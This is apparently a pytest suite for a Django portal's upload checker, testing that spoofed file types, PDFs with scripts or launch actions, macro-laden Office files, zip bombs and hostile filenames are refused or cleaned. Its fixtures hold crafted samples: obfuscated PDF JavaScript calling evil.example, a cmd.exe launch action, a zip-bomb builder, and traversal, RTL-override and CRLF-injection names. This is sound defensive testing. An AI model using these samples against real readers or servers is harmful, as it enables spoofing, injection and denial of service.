"""Uploads are checked by content (reliability plan T33, T34, T36, T37).

Every fixture file is built here in code: PDFs with pypdf or by hand (for
escaped names and object streams), DOCX/XLSX with zipfile.
"""

from __future__ import annotations

import hashlib
import io
import logging
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import FileResponse
from django.utils import translation
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from municipal_order.lib import uploads
from municipal_order.lib.uploads import (
    MB,
    CheckedUpload,
    PdfNameScanner,
    UploadRejected,
    check_upload,
    pdf_name,
    safe_display_name,
)

ALL = ("pdf", "jpeg", "png", "docx", "xlsx")
OFFICE = ("pdf", "docx", "xlsx")


# --- fixture builders -------------------------------------------------------------------


def minimal_pdf(configure=None) -> bytes:
    """A valid one-page PDF written by pypdf; ``configure(writer)`` may add to it."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if configure is not None:
        configure(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(writer: PdfWriter, action: dict) -> None:
    ref = writer._add_object(DictionaryObject({NameObject(k): v for k, v in action.items()}))
    writer.root_object[NameObject("/OpenAction")] = ref


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def raw_pdf(objects: dict[int, bytes], *, all_at_first: bool = False) -> bytes:
    """A PDF from object bodies with a classic xref table (root: object 1).

    ``all_at_first`` points every xref entry at object 1, as a crafted file might."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    if all_at_first:
        offsets = dict.fromkeys(offsets, offsets[1])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
        )
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def objstm_pdf(packed: dict[int, bytes], plain: dict[int, bytes], *, unlisted=()) -> bytes:
    """A PDF 1.5 whose ``packed`` objects sit in one FlateDecode object stream,
    indexed by a compressed cross-reference stream. Objects in ``unlisted`` are
    in the object stream but left out of the cross-reference stream."""
    header, body = [], b""
    for number, data in packed.items():
        header.append(b"%d %d" % (number, len(body)))
        body += data + b"\n"
    first = b" ".join(header) + b"\n"
    data = zlib.compress(first + body)
    stm = max([*packed, *plain]) + 1
    objects = dict(plain)
    objects[stm] = (
        b"<< /Type /ObjStm /N %d /First %d /Length %d /Filter /FlateDecode >>\nstream\n"
        % (len(packed), len(first), len(data))
        + data
        + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_number, xref_offset = stm + 1, len(out)
    offsets[xref_number] = xref_offset
    index = {n: i for i, n in enumerate(packed)}
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in index and number not in unlisted:
            rows += b"\x02" + stm.to_bytes(4, "big") + index[number].to_bytes(2, "big")
        else:
            rows += b"\x00" + bytes(4) + b"\xff\xff"
    packed_rows = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d "
        b"/Filter /FlateDecode >>\nstream\n" % (xref_number, xref_number + 1, len(packed_rows))
    )
    out += packed_rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/%s" ContentType="%s"/></Types>'
)
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_members(main_type: bytes = DOCX_MAIN) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES % (b"word/document.xml", main_type),
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document><w:body><w:p/></w:body></w:document>",
    }


def xlsx_members() -> dict[str, bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES % (b"xl/workbook.xml", XLSX_MAIN),
        "_rels/.rels": b"<Relationships/>",
        "xl/workbook.xml": b"<workbook><sheets/></workbook>",
    }


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "application/octet-stream")


def refused(file, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        check_upload(file, **kwargs)
    assert isinstance(info.value, UploadRejected)
    return info.value


def text(error: ValidationError) -> str:
    return error.messages[0]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# --- accepted files ------------------------------------------------------------------------


def test_a_real_pdf_is_accepted_with_its_digest_and_left_rewound():
    data = minimal_pdf()
    file = upload("устав.pdf", data)
    checked = check_upload(file, kinds=("pdf",))
    assert checked == CheckedUpload("pdf", hashlib.sha256(data).hexdigest(), len(data), "устав.pdf")
    assert checked.extension == ".pdf"
    assert checked.content_type == "application/pdf"
    assert file.read() == data  # callers save the file right after the check


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64), "jpeg"),
        ("scan.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "png"),
        ("plan.docx", zip_bytes(docx_members()), "docx"),
        ("budget.xlsx", zip_bytes(xlsx_members()), "xlsx"),
    ],
)
def test_images_and_office_documents_are_accepted(name, data, kind):
    checked = check_upload(upload(name, data), kinds=ALL)
    assert (checked.kind, checked.display_name, checked.size) == (kind, name, len(data))


def test_the_kind_comes_from_the_content_and_the_display_name_follows_it():
    checked = check_upload(upload("budget.docx", zip_bytes(xlsx_members())), kinds=ALL)
    assert checked.kind == "xlsx"
    assert checked.display_name == "budget.docx.xlsx"
    jpeg = check_upload(upload("photo.jpeg", b"\xff\xd8\xff\xdb" + bytes(16)), kinds=ALL)
    assert jpeg.display_name == "photo.jpeg"  # .jpeg is a JPEG extension as well


def test_a_pdf_with_an_object_stream_and_no_active_content_is_accepted():
    data = objstm_pdf({1: CATALOG, 2: PAGES}, {3: PAGE})
    assert check_upload(upload("plain.pdf", data)).kind == "pdf"


def test_active_names_inside_stream_data_are_not_mistaken_for_active_content():
    stream = b"BT /JS 12 Tf (/JavaScript /Launch) Tj ET" + bytes(range(256)) * 64
    data = raw_pdf(
        {
            1: CATALOG,
            2: PAGES,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        }
    )
    assert check_upload(upload("text.pdf", data)).kind == "pdf"


def test_a_19_mb_pdf_is_checked_and_accepted():
    # 19 MB of binary stream data (skipped by the raw scan) in an otherwise plain PDF.
    blob = hashlib.sha256(b"seed").digest() * (19 * MB // 32)
    data = raw_pdf(
        {
            1: CATALOG,
            2: PAGES,
            3: PAGE,
            4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(blob), blob),
        }
    )
    assert check_upload(upload("big.pdf", data)).size == len(data)


# --- T33: wrong type -----------------------------------------------------------------------


PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


@pytest.mark.parametrize("data", [PE, HTML], ids=["windows-executable", "html"])
@pytest.mark.parametrize("kinds", [("pdf",), ALL])
def test_a_file_named_pdf_that_is_not_a_pdf_is_told_so(data, kinds):
    error = refused(upload("budget.pdf", data), kinds=kinds)
    assert error.code == "bad_type"
    assert text(error) == "The file “budget.pdf” is not a PDF file."


def test_a_file_with_another_name_is_told_which_kinds_are_accepted():
    error = refused(upload("setup.exe", PE), kinds=ALL)
    assert error.code == "bad_type"
    assert text(error) == "The file “setup.exe” is not a PDF, JPEG, PNG, DOCX or XLSX file."
    error = refused(upload("page.html", HTML))
    assert text(error) == "The file “page.html” is not a PDF, JPEG or PNG file."


def test_a_kind_the_caller_did_not_accept_is_refused():
    error = refused(upload("scan.pdf", minimal_pdf()), kinds=("jpeg", "png"))
    assert error.code == "bad_type"
    assert text(error) == "The file “scan.pdf” is not a JPEG or PNG file."
    error = refused(upload("plan.docx", zip_bytes(docx_members())), kinds=("pdf",))
    assert error.code == "bad_type"


def test_a_zip_that_is_not_an_office_document_is_refused():
    plain_zip = zip_bytes({"word/document.xml": b"<w:document/>", "readme.txt": b"hi"})
    error = refused(upload("plan.docx", plain_zip), kinds=ALL)
    assert error.code == "bad_type"
    assert text(error) == "The file “plan.docx” is not a DOCX file."
    other = zip_bytes({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})
    assert refused(upload("slides.pptx", other), kinds=ALL).code == "bad_type"


def test_an_old_zip_office_kind_is_a_programming_error():
    with pytest.raises(ValueError, match="zip-office"):
        check_upload(upload("a.docx", zip_bytes(docx_members())), kinds=("zip-office",))


# --- T34: malicious PDFs -------------------------------------------------------------------


def _with_javascript(writer):
    _open_action(
        writer,
        {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('pwned')")},
    )


def _with_launch(writer):
    _open_action(writer, {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")})


def _with_attachment(writer):
    writer.add_attachment("payload.exe", PE)


@pytest.mark.parametrize(
    "configure",
    [_with_javascript, _with_launch, _with_attachment],
    ids=["open-action-javascript", "launch", "embedded-file"],
)
def test_a_pdf_with_active_content_is_refused(configure):
    error = refused(upload("report.pdf", minimal_pdf(configure)))
    assert error.code == "active_content"
    assert text(error) == (
        "The PDF contains active content (scripts, launch actions or attached files); "
        "save it again as a plain PDF."
    )


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /SubmitForm /F (https://evil.example/) >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToE /D [0 /Fit] >>",
        b"<< /S /RichMediaExecute /TI << /Type /RichMedia >> >>",
        b"<< /S /URI /URI (https://example.kg/) /Next << /S /J#61vaScript /J#53 (x) >> >>",
    ],
    ids=["submit-form", "import-data", "goto-embedded", "rich-media", "escaped-javascript"],
)
def test_other_active_actions_are_refused(action):
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    data = raw_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: action})
    assert refused(upload("form.pdf", data)).code == "active_content"


@pytest.mark.parametrize(
    "data",
    [
        minimal_pdf(_with_javascript),
        minimal_pdf(_with_launch),
        minimal_pdf(_with_attachment),
        raw_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                2: PAGES,
                3: PAGE,
                4: b"<< /S /J#61vaScript /J#53 (x) >>",
            }
        ),
    ],
    ids=["javascript", "launch", "embedded-file", "escaped-javascript"],
)
def test_the_object_walk_alone_finds_active_content(monkeypatch, data):
    # The raw byte scan is only a first pass: blind it, and pypdf's walk still refuses.
    monkeypatch.setattr(PdfNameScanner, "feed", lambda self, data, final=False: None)
    assert refused(upload("report.pdf", data)).code == "active_content"


def test_a_pdf_with_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 3)
    error = refused(upload("report.pdf", raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: b"<< >>"})))
    assert error.code == "too_complex"
    assert "over 3 objects" in text(error)


def test_an_xfa_form_is_refused():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>"
    data = raw_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: b"<< /Length 0 >>\nstream\n\nendstream"})
    assert refused(upload("form.pdf", data)).code == "active_content"


def test_javascript_hidden_in_a_compressed_object_stream_is_refused(caplog):
    data = objstm_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            4: b"<< /S /J#61vaScript /J#53 (app.launchURL\\('https://evil.example'\\)) >>",
        },
        {2: PAGES, 3: PAGE},
    )
    assert b"JavaScript" not in data and b"J#61" not in data  # invisible to a byte search
    caplog.set_level(logging.WARNING, logger="portal.security")
    assert refused(upload("report.pdf", data)).code == "active_content"
    assert caplog.records[-1].detail.startswith("object 4 0: /J")  # found by the object walk


def test_an_object_stream_object_missing_from_the_xref_is_still_seen(caplog):
    data = objstm_pdf(
        {1: CATALOG, 4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        {2: PAGES, 3: PAGE},
        unlisted={4},
    )
    caplog.set_level(logging.WARNING, logger="portal.security")
    assert refused(upload("report.pdf", data)).code == "active_content"
    assert "in an object stream" in caplog.records[-1].detail


def test_an_encrypted_pdf_is_refused():
    data = minimal_pdf(lambda writer: writer.encrypt("secret"))
    error = refused(upload("secret.pdf", data))
    assert error.code == "encrypted"
    assert text(error) == "Password-protected PDFs are not accepted."


@pytest.mark.parametrize(
    "data",
    [
        minimal_pdf()[: len(minimal_pdf()) // 2],
        b"%PDF-1.7\nnothing here at all\n%%EOF\n",
        b"%PDF-1.4 minutes",
        raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] >>"}),
    ],
    ids=["truncated", "no-objects", "magic-only", "no-pages"],
)
def test_a_damaged_pdf_is_refused(data):
    error = refused(upload("report.pdf", data))
    assert error.code == "damaged"
    assert text(error) == "The PDF file is damaged."


def test_a_pdf_whose_xref_points_everywhere_wrong_is_refused(monkeypatch):
    # pypdf repairs each wrong entry by searching the whole file: thousands of
    # them would take minutes, so past a limit the file counts as damaged.
    monkeypatch.setattr(uploads, "PDF_MAX_BAD_OFFSETS", 2)
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, 4: b"<< >>", 5: b"<< >>"}
    assert check_upload(upload("report.pdf", raw_pdf(objects))).kind == "pdf"
    spoiled = raw_pdf(objects, all_at_first=True)
    assert refused(upload("report.pdf", spoiled)).code == "damaged"


# --- the raw scanner ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "name"),
    [(b"J#61vaScript", "JavaScript"), (b"#4A#53", "JS"), (b"Launch", "Launch"), (b"A#2", "A#2")],
)
def test_pdf_names_are_unescaped(raw, name):
    assert pdf_name(raw) == name


def test_the_raw_scanner_finds_names_split_across_chunks():
    data = b"1 0 obj << /Type /Action /S /J#61vaScript >> endobj " * 3
    for size in (1, 2, 3, 7, 64):
        scanner = PdfNameScanner()
        hits = [scanner.feed(data[i : i + size]) for i in range(0, len(data), size)]
        hits.append(scanner.feed(b"", final=True))
        assert "JavaScript" in hits, size


def test_the_raw_scanner_skips_stream_data_but_not_what_follows():
    scanner = PdfNameScanner()
    assert scanner.feed(b"<< /Length 9 >>\nstream\n/JS /XFA\nendstream\n", final=False) is None
    assert scanner.feed(b"endobj 2 0 obj << /Launch 1 >> " + bytes(200), final=True) == "Launch"
    # Names that merely start like an active one are not active.
    assert PdfNameScanner().feed(b"<< /JSX 1 /JavaScripts 2 /Launched 3 >>", final=True) is None


# --- DOCX / XLSX -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "members",
    [
        {**docx_members(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"},
        docx_members(DOCM_MAIN),
        {**xlsx_members(), "xl/activeX/activeX1.xml": b"<ax:ocx/>"},
    ],
    ids=["vba-project", "macro-enabled-content-type", "activex"],
)
def test_office_documents_with_macros_are_refused(members):
    error = refused(upload("plan.docx", zip_bytes(members)), kinds=OFFICE)
    assert error.code == "active_content"
    assert "macros" in text(error)


def test_a_zip_bomb_is_refused_without_unpacking_it():
    # 200 MB of zeros packed to ~200 KB, written in chunks to keep memory low.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in docx_members().items():
            archive.writestr(name, data)
        info = zipfile.ZipInfo("word/media/image1.png")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            zeros = bytes(MB)
            for _ in range(200):
                member.write(zeros)
    data = out.getvalue()
    assert len(data) < MB
    error = refused(upload("plan.docx", data), kinds=OFFICE)
    assert error.code == "suspicious_archive"


def test_one_member_with_an_extreme_ratio_is_a_bomb():
    data = zip_bytes({**docx_members(), "word/media/blank.bmp": bytes(5 * MB)})
    assert refused(upload("plan.docx", data), kinds=OFFICE).code == "suspicious_archive"


def test_many_members_or_a_large_total_is_a_bomb(monkeypatch):
    many = {**docx_members(), **{f"word/part{i}.xml": b"<p/>" for i in range(1000)}}
    assert refused(upload("plan.docx", zip_bytes(many)), kinds=OFFICE).code == (
        "suspicious_archive"
    )
    monkeypatch.setattr(uploads, "ZIP_MAX_TOTAL", 100_000)
    noise = hashlib.sha256(b"x").digest() * 4000  # 128 KB that does not compress
    data = zip_bytes({**docx_members(), "word/media/photo.bin": noise})
    assert refused(upload("plan.docx", data), kinds=OFFICE).code == "suspicious_archive"


def test_a_damaged_zip_is_refused():
    assert refused(upload("plan.docx", b"PK\x03\x04" + bytes(100)), kinds=OFFICE).code == (
        "damaged"
    )
    data = bytearray(zip_bytes(docx_members()))
    body = data.index(b"word/document.xml") + len(b"word/document.xml")
    data[body : body + 8] = b"\xff" * 8  # spoil the packed bytes of document.xml
    error = refused(upload("plan.docx", bytes(data)), kinds=OFFICE)
    assert error.code == "damaged"
    assert text(error) == "The file is damaged."


# --- T36: size ------------------------------------------------------------------------------


def test_a_21_mb_file_is_refused_with_the_limit_in_the_message():
    error = refused(upload("big.pdf", b"%PDF-1.7\n" + bytes(21 * MB)))
    assert error.code == "too_big"
    assert text(error) == "The file is larger than 20 MB."


def test_the_size_read_counts_even_when_the_declared_size_lies():
    file = upload("big.pdf", b"%PDF-1.7\n" + bytes(2 * MB))
    file.size = 10
    error = refused(file, max_mb=1)
    assert error.code == "too_big"
    assert text(error) == "The file is larger than 1 MB."


def test_a_declared_size_over_the_limit_is_refused_before_reading():
    file = upload("big.pdf", minimal_pdf())
    file.size = 21 * MB
    assert refused(file).code == "too_big"


def test_an_empty_file_is_refused():
    error = refused(upload("empty.pdf", b""))
    assert error.code == "empty"
    assert text(error) == "The file is empty."


# --- T37: hostile names ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\system.ini.pdf", "system.ini.pdf"),
        ("report\u202efdp.exe", "reportfdp.exe"),
        ('a";b.pdf', "a'_b.pdf"),
        ("line\r\nSet-Cookie: x=1.pdf", "lineSet-Cookie_ x=1.pdf"),
        ("  .hidden.pdf. ", "hidden.pdf"),
        ("устав\u200b организации.pdf", "устав организации.pdf"),
        ("", "file"),
        ("..", "file"),
        ("dir/", "file"),
        (None, "file"),
    ],
)
def test_display_names_are_safe(name, shown):
    assert safe_display_name(name) == shown


def test_a_long_name_keeps_its_extension():
    shown = safe_display_name("я" * 300 + ".pdf")
    assert len(shown) == 120
    assert shown.endswith("я.pdf")


def test_a_display_name_gets_the_extension_of_its_content():
    assert safe_display_name("report\u202efdp.exe", kind="pdf") == "reportfdp.exe.pdf"
    assert safe_display_name("SCAN.PDF", kind="pdf") == "SCAN.PDF"
    assert safe_display_name("", kind="pdf") == "file.pdf"
    assert len(safe_display_name("x" * 300 + ".exe", kind="pdf")) == 120


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.pdf", "x" * 300 + ".pdf", "report\u202efdp.exe", 'a";b.pdf']
)
def test_hostile_names_are_sanitised_on_accepted_uploads(name):
    checked = check_upload(upload(name, minimal_pdf()))
    shown = checked.display_name
    assert "/" not in shown and "\\" not in shown and '"' not in shown
    assert "\u202e" not in shown and len(shown) <= 120 and shown.endswith(".pdf")
    header = FileResponse(io.BytesIO(b""), as_attachment=True, filename=shown)
    assert header["Content-Disposition"].startswith('attachment; filename="')
    assert header["Content-Type"] == "application/pdf"


# --- logging --------------------------------------------------------------------------------


def test_a_refusal_is_logged_without_the_content(caplog):
    caplog.set_level(logging.WARNING, logger="portal.security")
    data = PE + b"SECRET-PAYLOAD"
    refused(upload("../budget\u202e.pdf", data), kinds=("pdf",))
    [record] = [r for r in caplog.records if r.name == "portal.security"]
    assert record.getMessage() == "upload_rejected"
    assert (record.code, record.upload_name, record.size) == ("bad_type", "budget.pdf", len(data))
    assert record.kinds == "pdf"
    assert "SECRET" not in repr(record.__dict__)


def test_an_accepted_upload_is_not_logged(caplog):
    caplog.set_level(logging.WARNING, logger="portal.security")
    check_upload(upload("a.pdf", minimal_pdf()))
    assert not [r for r in caplog.records if r.name == "portal.security"]
